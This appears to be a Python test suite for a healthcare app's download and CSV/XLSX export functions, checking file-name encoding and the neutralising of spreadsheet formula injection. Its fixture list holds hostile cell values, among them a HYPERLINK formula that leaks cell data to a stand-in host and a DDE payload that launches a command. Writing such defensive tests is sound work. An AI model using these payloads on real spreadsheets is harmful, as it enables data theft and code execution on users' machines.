from zorgnet.lib.exports import XLSX_CONTENT_TYPE, csv_response, download, xlsx_response


def test_download_met_gewone_naam():
    antwoord = download(b"%PDF", "verslag.pdf", "application/pdf")
    assert antwoord["Content-Disposition"] == 'attachment; filename="verslag.pdf"'
    assert antwoord["Content-Type"] == "application/pdf"


def test_download_codeert_accenten_en_aanhalingstekens():
    # A buurt name goes into the file name: the header must stay valid (RFC 6266 filename*).
    antwoord = download(b"x", 'partners-"sint-andré".xlsx', XLSX_CONTENT_TYPE)
    kop = antwoord["Content-Disposition"]
    assert kop.startswith("attachment; filename*=utf-8''")
    assert "andr%C3%A9" in kop


def test_csv_en_xlsx_gebruiken_dezelfde_kop():
    assert csv_response("a.csv", ["x"], [])["Content-Disposition"] == 'attachment; filename="a.csv"'
    antwoord = xlsx_response("a.xlsx", {"blad": (["x"], [[1]])})
    assert antwoord["Content-Disposition"] == 'attachment; filename="a.xlsx"'
    assert antwoord.content[:2] == b"PK"


# --- hostile cell content (issue 16, findings 6 and 7) -------------------------------------------
VIJANDIG = [
    '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "tekst met \x0b verticale tab en \x1b escape",
]


def test_veilige_cel_neutraliseert_formules_en_laat_getallen_staan():
    from zorgnet.lib.exports import veilige_cel

    assert veilige_cel(VIJANDIG[0]).startswith("'=HYPERLINK")
    assert all(veilige_cel(t).startswith("'") for t in VIJANDIG[:6])
    assert veilige_cel(VIJANDIG[6]) == "tekst met  verticale tab en  escape"
    for waarde in (-5, 3.25, 0, None, True, "-5", "+3,5", "-12.5", "gewone tekst", "a=b"):
        assert veilige_cel(waarde) == waarde


def test_csv_export_schrijft_geen_formules_en_geen_stuurtekens():
    antwoord = csv_response("a.csv", ["=kop"], [[t, -7] for t in VIJANDIG])
    tekst = b"".join(antwoord.streaming_content).decode("utf-8-sig")
    import csv
    import io

    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert rijen[0] == ["'=kop"]
    for rij in rijen[1:]:
        assert rij[0][0] in "'t" and rij[1] == "-7"
    assert "\x0b" not in tekst and "\x1b" not in tekst


def test_xlsx_export_schrijft_tekst_en_geen_formules_ook_met_stuurtekens():
    import io

    from openpyxl import load_workbook

    antwoord = xlsx_response("a.xlsx", {"blad\x0b": (["kop"], [[t, -7, 2.5] for t in VIJANDIG])})
    boek = load_workbook(io.BytesIO(antwoord.content))
    blad = boek.worksheets[0]
    assert blad.title == "blad"
    for rij in blad.iter_rows(min_row=2):
        assert rij[0].data_type == "s"  # text, never a formula ("f")
        assert rij[1].value == -7 and rij[2].value == 2.5
    assert blad["A2"].value.startswith("'=HYPERLINK")
    assert blad["A8"].value == "tekst met  verticale tab en  escape"
